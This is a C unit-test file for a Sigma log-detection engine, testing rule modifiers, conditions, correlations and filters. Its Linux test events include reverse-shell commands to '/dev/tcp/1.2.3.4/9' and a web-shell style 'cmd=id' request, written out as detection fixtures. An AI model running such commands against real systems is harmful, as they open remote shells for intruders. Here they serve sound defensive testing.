/* test_sigma.c - the Sigma engine: modifiers, conditions, correlations, filters, and rules that must not stop the others. */
#include "tests/sigma_harness.h"

#define SYSMON "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon"

/* One rule with a detection, one process creation with fields: does it hold? */
static bool
holds(const char *detection, const char *fields)
{
	char text[16384];
	struct sigma_case c;
	int size = snprintf(text, sizeof(text), "title: t\nid: r\nlogsource: {category: process_creation, product: windows}\ndetection:\n%s\n", detection);
	open_sigma(&c, text, (size_t)size);
	if (sigma_rule_count(detect_sigma(c.t.tables)) != 1)
		fail_msg("refused: %s: %s", first_refusal(&c), detection);
	show_windows(&c.t, SYSMON, 1, NIGHT, "jan", fields);
	size_t count = sigma_findings(&c);
	close_sigma(&c);
	return count == 1;
}

/* Selection s alone. */
static bool
selects(const char *selection, const char *fields)
{
	char text[8192];
	snprintf(text, sizeof(text), "  s: {%s}\n  condition: s", selection);
	return holds(text, fields);
}

static const char *
refused(const char *detection)
{
	static char why[400];
	char text[8192];
	struct sigma_case c;
	int size = snprintf(text, sizeof(text), "title: t\nlogsource: {category: process_creation, product: windows}\ndetection:\n%s\n", detection);
	open_sigma(&c, text, (size_t)size);
	assert_int_equal(sigma_rule_count(detect_sigma(c.t.tables)), 0);
	snprintf(why, sizeof(why), "%s", first_refusal(&c));
	close_sigma(&c);
	return why;
}

#define FIELDS ",\"image\":\"C:\\\\Windows\\\\System32\\\\cmd.exe\",\"command_line\":\"CMD.exe /c Whoami \xc3\x89T\xc3\x89\",\"process_id\":4711,\"ip\":\"10.1.2.3\"," \
	"\"six\":\"2001:db8::7\",\"when\":\"2026-11-28T23:59:58Z\",\"empty\":\"\",\"image2\":\"c:\\\\windows\\\\system32\\\\CMD.EXE\",\"hashes\":\"MD5=AA,SHA256=BBCC\"," \
	"\"b64\":\"x QQBkAG0AaQBuAA== y\",\"off\":\"zzd2hvYW1pzz\",\"star\":\"a*b\""

static void
plain_values_and_wildcards(void **state)
{
	(void)state;
	assert_true(selects("Image: 'c:\\windows\\system32\\cmd.exe'", FIELDS));
	assert_false(selects("Image: 'c:\\windows\\system32\\cmd'", FIELDS));
	assert_true(selects("Image: '*\\cmd.exe'", FIELDS));
	assert_true(selects("Image: 'C:*\\c?d.exe'", FIELDS));
	assert_false(selects("Image: 'C:*\\c??d.exe'", FIELDS));
	assert_true(selects("Image: ['x', '*cmd*']", FIELDS));
	assert_true(selects("ProcessId: 4711", FIELDS));
	assert_false(selects("ProcessId: 471", FIELDS));
	assert_true(selects("star: 'a\\*b'", FIELDS));
	assert_false(selects("command_line: 'CMD\\*'", FIELDS));
	assert_true(selects("CommandLine|contains: '\xc3\xa9t\xc3\xa9'", FIELDS));
	assert_true(selects("empty: ''", FIELDS));
	assert_true(selects("empty: null", FIELDS));
	assert_true(selects("nothing: null", FIELDS));
	assert_false(selects("nothing: ''", FIELDS));
	assert_false(selects("Image: null", FIELDS));
	assert_true(selects("sha256: bbcc", FIELDS));
	assert_false(selects("md5: bbcc", FIELDS));
}

static void
modifiers(void **state)
{
	(void)state;
	assert_true(selects("CommandLine|contains|all: ['whoami', '/C']", FIELDS));
	assert_false(selects("CommandLine|contains|all: ['whoami', '/d']", FIELDS));
	assert_true(selects("Image|endswith: ['\\x.exe', '\\CMD.exe']", FIELDS));
	assert_true(selects("Image|startswith: 'c:'", FIELDS));
	assert_false(selects("Image|startswith|cased: 'c:'", FIELDS));
	assert_true(selects("Image|contains|cased: 'Sys'", FIELDS));
	assert_true(selects("Image|neq: 'x'", FIELDS));
	assert_false(selects("Image|neq: ['x', '*cmd.exe']", FIELDS));
	assert_true(selects("CommandLine|windash|contains: ' -c '", FIELDS));
	assert_true(selects("CommandLine|re: 'W[a-z]{5}'", FIELDS));
	assert_false(selects("CommandLine|re: 'w[a-z]{5}'", FIELDS));
	assert_true(selects("CommandLine|re|i: 'whoAMI\\s.t.$'", FIELDS));
	assert_true(selects("ip|cidr: 10.0.0.0/8", FIELDS));
	assert_false(selects("ip|cidr: ['10.1.2.4/31', '::/0']", FIELDS));
	assert_true(selects("six|cidr: 2001:db8::/32", FIELDS));
	assert_false(selects("six|cidr: 2001:db9::/32", FIELDS));
	assert_true(selects("ProcessId|gte: 4711", FIELDS) && selects("ProcessId|lt: 4712", FIELDS));
	assert_false(selects("ProcessId|gt: 4711", FIELDS) || selects("ProcessId|lte: 4710", FIELDS) || selects("Image|gt: 0", FIELDS));
	assert_true(selects("empty|exists: true", FIELDS) && selects("nothing|exists: false", FIELDS));
	assert_false(selects("empty|exists: false", FIELDS) || selects("nothing|exists: true", FIELDS));
	assert_true(selects("Image|fieldref: image2", FIELDS));
	assert_false(selects("Image|fieldref: nothing", FIELDS) || selects("Image|fieldref|cased: image2", FIELDS));
	assert_true(selects("when|hour: 23", FIELDS) && selects("when|minute|gt: 58", FIELDS) && selects("when|year: 2026", FIELDS) && selects("when|week: 48", FIELDS));
	assert_false(selects("when|day: 27", FIELDS) || selects("when|month: 10", FIELDS));
	assert_true(selects("b64|wide|base64|contains: Admin", FIELDS));
	assert_true(selects("off|base64offset|contains: whoami", FIELDS));
	assert_false(selects("off|base64offset|contains: whoarewe", FIELDS));
}

static void
base64_at_each_offset(void **state)
{
	(void)state;
	/* "foo whoami!", "xfoo whoami!" and "xyfoo whoami!" in Base64 */
	const char *const lines[] = { "Zm9vIHdob2FtaSE=", "eGZvbyB3aG9hbWkh", "eHlmb28gd2hvYW1pIQ==" };
	for (size_t i = 0; i < 3; i++) {
		char fields[100];
		snprintf(fields, sizeof(fields), ",\"command_line\":\"-enc %s\"", lines[i]);
		assert_true(selects("CommandLine|base64offset|contains: 'whoami'", fields));
	}
}

static void
conditions(void **state)
{
	(void)state;
#define SELECTIONS "  sel_a: {Image|endswith: cmd.exe}\n  sel_b: {Image|endswith: no.exe}\n  _c: {ProcessId: 4711}\n  words: ['whoami']\n"
	assert_true(holds(SELECTIONS "  condition: sel_a and not sel_b", FIELDS));
	assert_true(holds(SELECTIONS "  condition: sel_b or sel_a and _c", FIELDS));
	assert_false(holds(SELECTIONS "  condition: (sel_b or sel_a) and not _c", FIELDS));
	assert_true(holds(SELECTIONS "  condition: 1 of sel_*", FIELDS));
	assert_false(holds(SELECTIONS "  condition: all of sel_*", FIELDS));
	assert_true(holds(SELECTIONS "  condition: 2 of them", FIELDS));
	assert_false(holds(SELECTIONS "  condition: all of them", FIELDS));
	assert_false(holds(SELECTIONS "  condition: not 1 of sel_*", FIELDS));
	assert_true(holds(SELECTIONS "  condition: not not (sel_a)", FIELDS));
	assert_true(holds(SELECTIONS "  condition: words", FIELDS));
	assert_true(holds(SELECTIONS "  condition: [sel_b, sel_a]", FIELDS));
	assert_true(holds("  s:\n    - Image: x\n    - ProcessId: 4711\n      Image|contains: cmd\n  condition: s", FIELDS));
	assert_true(holds("  s: {'|all': ['whoami', 'cmd']}\n  condition: s", FIELDS));
	assert_false(holds("  s: {'|all': ['whoami', 'nowhere']}\n  condition: s", FIELDS));
	assert_true(holds("  s: ['a test event']\n  condition: s", FIELDS));
}

static void
what_is_wrong_is_said(void **state)
{
	(void)state;
	assert_has(refused("  s: {Image: x}\n  condition: s and t"), "t, and there is no such selection");
	assert_has(refused("  s: {Image: x}\n  condition: (s"), "a ( without");
	assert_has(refused("  s: {Image: x}\n  condition: s)"), "a ) without");
	assert_has(refused("  s: {Image: x}\n  condition: s s"), "where and, or");
	assert_has(refused("  s: {Image: x}\n  condition: s | count() > 5"), "correlation");
	assert_has(refused("  s: {Image: x}\n  condition: 1 of filter*"), "filter*");
	assert_has(refused("  s: {Image: x}"), "no condition");
	assert_has(refused("  s: {'Image|sounds': x}\n  condition: s"), "|sounds");
	assert_has(refused("  s: {'Image|re': '(a'}\n  condition: s"), "regular expression");
	assert_has(refused("  s: {'Image|cidr': '10.0.0.0/99'}\n  condition: s"), "range of addresses");
	assert_has(refused("  s: {'Image|expand': '%x%'}\n  condition: s"), "placeholders");
	assert_has(refused("  s: {'Image|gt': x}\n  condition: s"), "a number is compared");
	assert_has(refused("  s: {'Image|wide': x}\n  condition: s"), "UTF-16");
	assert_has(refused("  s: {'Image|base64': 'x*'}\n  condition: s"), "wildcard");
	assert_has(refused("  s: {Image: [[x]]}\n  condition: s"), "a list or a map");
	assert_has(refused("  s: {Image: x}\n  timeframe: 5m\n  condition: s"), "timeframe");
}

static void
one_bad_document_leaves_the_others(void **state)
{
	(void)state;
	static const char text[] =
	    "title: good\nid: one\nlogsource: {category: process_creation}\ndetection:\n  s: {Image|endswith: cmd.exe}\n  condition: s\n"
	    "---\ntitle: broken\ndetection: [\n"
	    "---\n&a [&b [*a]]\n"
	    "---\ntitle: cloud\nlogsource: {product: aws, service: cloudtrail}\ndetection: {s: {a: b}, condition: s}\n"
	    "---\ntitle: good too\nid: two\nlogsource: {category: process_creation}\ndetection:\n  s: &x {Image|endswith: cmd.exe}\n  u: *x\n  condition: s and u\n";
	struct sigma_case c;
	open_sigma(&c, text, sizeof(text) - 1);
	const struct sigma_set *set = detect_sigma(c.t.tables);
	assert_int_equal(sigma_rule_count(set), 2);
	assert_int_equal(sigma_refusal_count(set), 3);
	assert_true(sigma_refusal(set, 0)->line >= 8 && sigma_refusal(set, 0)->line <= 10);
	assert_has(sigma_refusal(set, 1)->why, "alias");
	assert_has(sigma_refusal(set, 2)->why, "no artefact gives this log source");
	assert_true(sigma_refusal(set, 2)->elsewhere);
	show_windows(&c.t, SYSMON, 1, NIGHT, "jan", FIELDS);
	assert_int_equal(sigma_findings(&c), 2);
	close_sigma(&c);
}

static void
deep_and_many_is_refused(void **state)
{
	(void)state;
	static char text[400000];
	struct sigma_case c;
	size_t n = (size_t)snprintf(text, sizeof(text), "title: t\nlogsource: {category: process_creation}\ndetection:\n  s: ");
	memset(text + n, '[', 5000);
	open_sigma(&c, text, n + 5000);
	assert_int_equal(sigma_rule_count(detect_sigma(c.t.tables)), 0);
	close_sigma(&c);
	n = (size_t)snprintf(text, sizeof(text), "title: t\nlogsource: {category: process_creation}\ndetection:\n  s: {Image: x}\n  condition: ");
	for (size_t i = 0; i < 3000; i++)
		n += (size_t)snprintf(text + n, sizeof(text) - n, "not ");
	n += (size_t)snprintf(text + n, sizeof(text) - n, "s\n");
	open_sigma(&c, text, n);
	assert_has(first_refusal(&c), "too deep");
	close_sigma(&c);
}

/* A regular expression that never ends costs its own rule alone, and is named. */
static void
a_regex_bomb_is_named(void **state)
{
	(void)state;
	static const char text[] =
	    "title: bomb\nid: bomb\nlogsource: {category: process_creation}\ndetection:\n  s: {CommandLine|re: '(a|aa)+[^a]$'}\n  condition: s\n"
	    "---\ntitle: other\nid: other\nlogsource: {category: process_creation}\ndetection:\n  s: {CommandLine|startswith: aaaa}\n  condition: s\n";
	char fields[4096], line[3000];
	struct sigma_case c;
	memset(line, 'a', sizeof(line) - 1);
	line[sizeof(line) - 1] = '\0';
	snprintf(fields, sizeof(fields), ",\"command_line\":\"%s\"", line);
	open_sigma(&c, text, sizeof(text) - 1);
	for (int i = 0; i < 100; i++)
		show_windows(&c.t, SYSMON, 1, NIGHT + i, "jan", fields);
	assert_int_equal(sigma_findings(&c), 1);
	assert_int_equal(need_finding(&c.t, "sigma:other")->count, 100);
	assert_has(detect_verdict(c.t.judge)->reasons, "bomb");
	close_sigma(&c);
}

#define BASE_RULE(name, field, value) "title: " name "\nname: " name "\nlogsource: {product: windows, service: security}\ndetection:\n  s: {" field ": " value "}\n  condition: s\n"

static void
show_logon(struct sigma_case *c, int event_id, int64_t seconds, const char *user, const char *address)
{
	char fields[200];
	snprintf(fields, sizeof(fields), ",\"target_user_name\":\"%s\",\"ip_address\":\"%s\"", user, address);
	show_windows(&c->t, "Security", "Microsoft-Windows-Security-Auditing", event_id, NIGHT + seconds * INT64_C(1000000000), user, fields);
}

static void
events_are_counted_within_a_span(void **state)
{
	(void)state;
	static const char text[] = BASE_RULE("failed", "EventID", "4625")
	    "---\ntitle: many\nid: many\ncorrelation:\n  type: event_count\n  rules: [failed]\n  group-by: [IpAddress]\n  timespan: 1m\n  condition: {gte: 3}\n"
	    "---\ntitle: users\nid: users\ncorrelation:\n  type: value_count\n  rules: [failed]\n  group-by: [IpAddress]\n  timespan: 1h\n  condition: {field: TargetUserName, gt: 2}\n"
	    "---\ntitle: few\nid: few\ncorrelation:\n  type: event_count\n  rules: [failed]\n  group-by: [IpAddress]\n  timespan: 1m\n  condition: {eq: 1}\n";
	struct sigma_case c;
	open_sigma(&c, text, sizeof(text) - 1);
	assert_int_equal(sigma_rule_count(detect_sigma(c.t.tables)), 4);
	show_logon(&c, 4625, 0, "a", "10.0.0.1");
	show_logon(&c, 4625, 30, "b", "10.0.0.1");
	show_logon(&c, 4625, 40, "x", "10.0.0.2");
	show_logon(&c, 4625, 70, "a", "10.0.0.1");	/* three, but not within a minute */
	show_logon(&c, 4625, 80, "a", "10.0.0.1");	/* 30, 70, 80 */
	show_logon(&c, 4624, 81, "a", "10.0.0.1");
	show_logon(&c, 4625, 900, "c", "10.0.0.1");	/* a, b, c within the hour; alone in its minute */
	sigma_findings(&c);
	assert_null(finding_of(&c.t, "sigma:failed"));
	assert_int_equal(need_finding(&c.t, "sigma:many")->count, 1);
	assert_int_equal(need_finding(&c.t, "sigma:many")->first_time, NIGHT + 30 * INT64_C(1000000000));
	assert_int_equal(need_finding(&c.t, "sigma:users")->count, 1);
	assert_int_equal(need_finding(&c.t, "sigma:few")->count, 2);
	close_sigma(&c);
}

static void
rules_follow_each_other(void **state)
{
	(void)state;
	static const char text[] =
	    "title: outer\nid: outer\ncorrelation:\n  type: temporal_ordered\n  rules: [many, good]\n  group-by: [who]\n  timespan: 10m\n"
	    "  aliases: {who: {good: TargetUserName, many: TargetUserName}}\n"
	    "---\n" BASE_RULE("failed", "EventID", "4625") "---\n" BASE_RULE("good", "EventID", "4624")
	    "---\ntitle: many\nname: many\ngenerate: true\ncorrelation:\n  type: event_count\n  rules: [failed]\n  group-by: [TargetUserName]\n  timespan: 1m\n  condition: {gte: 2}\n"
	    "---\ntitle: both\nid: both\ncorrelation:\n  type: temporal\n  rules: [failed, good]\n  group-by: [TargetUserName]\n  timespan: 5s\n";
	struct sigma_case c;
	open_sigma(&c, text, sizeof(text) - 1);
	assert_string_equal(first_refusal(&c), "");
	show_logon(&c, 4624, 0, "a", "");		/* before */
	show_logon(&c, 4625, 1, "a", "");
	show_logon(&c, 4625, 2, "a", "");
	show_logon(&c, 4624, 3, "b", "");		/* another */
	show_logon(&c, 4624, 60, "A", "");
	sigma_findings(&c);
	assert_int_equal(need_finding(&c.t, "sigma:outer")->count, 1);
	assert_int_equal(need_finding(&c.t, "sigma:outer")->last_time, NIGHT + 60 * INT64_C(1000000000));
	assert_int_equal(need_finding(&c.t, "sigma:both")->count, 1);
	assert_null(finding_of(&c.t, "sigma:good"));
	close_sigma(&c);
}

static void
filters_narrow_rules(void **state)
{
	(void)state;
	static const char text[] = BASE_RULE("failed", "EventID", "4625")
	    "---\ntitle: ours\nlogsource: {product: windows, service: security}\nfilter:\n  rules: [failed]\n  s: {TargetUserName|startswith: svc_}\n  condition: not s\n";
	struct sigma_case c;
	open_sigma(&c, text, sizeof(text) - 1);
	assert_string_equal(first_refusal(&c), "");
	show_logon(&c, 4625, 0, "svc_backup", "");
	show_logon(&c, 4625, 1, "jan", "");
	assert_int_equal(sigma_findings(&c), 1);
	assert_int_equal(need_finding(&c.t, "sigma:failed")->count, 1);
	close_sigma(&c);
}

static void
a_finding_says_what_the_rule_says(void **state)
{
	(void)state;
	static const char text[] = "title: Title\nid: 11\nlevel: critical\nstatus: stable\ntags: [attack.execution, attack.t1059.001]\ndescription: >\n  Why it\n  matters.\n"
	    "falsepositives: [Setup, Tests]\nlogsource: {product: windows, category: process_creation}\ndetection: {s: {Image|endswith: cmd.exe, EventID: 4688}, condition: s}\n";
	struct sigma_case c;
	open_sigma(&c, text, sizeof(text) - 1);
	show_windows(&c.t, SYSMON, 1, NIGHT, "jan", FIELDS);
	show_windows(&c.t, "Security", "Microsoft-Windows-Security-Auditing", 4688, NIGHT, "jan", ",\"new_process_name\":\"C:\\\\cmd.exe\"");
	show_windows(&c.t, "Security", "Microsoft-Windows-Security-Auditing", 4688, NIGHT + 5, "piet", ",\"new_process_name\":\"C:\\\\cmd.exe\"");
	assert_int_equal(sigma_findings(&c), 1);
	const struct detect_finding *f = need_finding(&c.t, "sigma:11");
	assert_int_equal(f->count, 2);
	assert_int_equal(f->severity, TRIAGE_HIGH);
	assert_int_equal(f->confidence, 40);
	assert_string_equal(f->kind, "sigma");
	assert_string_equal(f->technique, "T1059.001");
	assert_string_equal(f->host, "PC-12");
	assert_has(f->detail, "\"why\":\"Why it matters.\"");
	assert_has(f->detail, "\"innocent\":\"Setup; Tests\"");
	assert_has(f->detail, "\"accounts\":[\"jan\",\"piet\"]");
	close_sigma(&c);
}

static void
linux_and_web_sources(void **state)
{
	(void)state;
	static const char text[] =
	    "title: a\nid: shell\nlogsource: {product: linux, category: process_creation}\ndetection: {s: {CommandLine|contains: '/dev/tcp/'}, condition: s}\n"
	    "---\ntitle: b\nid: ssh\nlogsource: {product: linux, service: sshd}\ndetection: {k: ['Failed password'], condition: k}\n"
	    "---\ntitle: c\nid: web\nlogsource: {category: webserver}\ndetection: {s: {cs-uri-query|contains: 'cmd=', sc-status: 200}, condition: s}\n";
	struct sigma_case c;
	open_sigma(&c, text, sizeof(text) - 1);
	assert_string_equal(first_refusal(&c), "");
	show_event(&c.t, (struct detect_event){ .source = "audit", .meaning = "command run", .time = NIGHT, .data = "{\"command_line\":\"bash -i >& /dev/tcp/1.2.3.4/9\"}" });
	show_event(&c.t, (struct detect_event){ .source = "audit", .meaning = "logged", .time = NIGHT, .data = "{\"command_line\":\"/dev/tcp/\"}" });
	show_event(&c.t, (struct detect_event){ .source = "shell-history", .meaning = "command run", .time = NIGHT, .data = "{\"command\":\"exec 3<>/dev/tcp/1.2.3.4/9\"}" });
	show_event(&c.t, (struct detect_event){ .source = "syslog", .time = NIGHT, .data = "{\"program\":\"sshd\",\"message\":\"Failed password for root\"}" });
	show_event(&c.t, (struct detect_event){ .source = "syslog", .time = NIGHT, .data = "{\"program\":\"su\",\"message\":\"Failed password for root\"}" });
	show_event(&c.t, (struct detect_event){ .source = "journal", .time = NIGHT, .data = "{\"syslog_identifier\":\"sshd\",\"message\":\"Failed password for root\"}" });
	show_event(&c.t, (struct detect_event){ .source = "web", .time = NIGHT, .data = "{\"url\":\"/a.php?cmd=id\",\"status\":200}" });
	sigma_findings(&c);
	assert_int_equal(need_finding(&c.t, "sigma:shell")->count, 2);
	assert_int_equal(need_finding(&c.t, "sigma:ssh")->count, 2);
	assert_int_equal(need_finding(&c.t, "sigma:web")->count, 1);
	close_sigma(&c);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(plain_values_and_wildcards),
		cmocka_unit_test(modifiers),
		cmocka_unit_test(base64_at_each_offset),
		cmocka_unit_test(conditions),
		cmocka_unit_test(what_is_wrong_is_said),
		cmocka_unit_test(one_bad_document_leaves_the_others),
		cmocka_unit_test(deep_and_many_is_refused),
		cmocka_unit_test(a_regex_bomb_is_named),
		cmocka_unit_test(events_are_counted_within_a_span),
		cmocka_unit_test(rules_follow_each_other),
		cmocka_unit_test(filters_narrow_rules),
		cmocka_unit_test(a_finding_says_what_the_rule_says),
		cmocka_unit_test(linux_and_web_sources),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
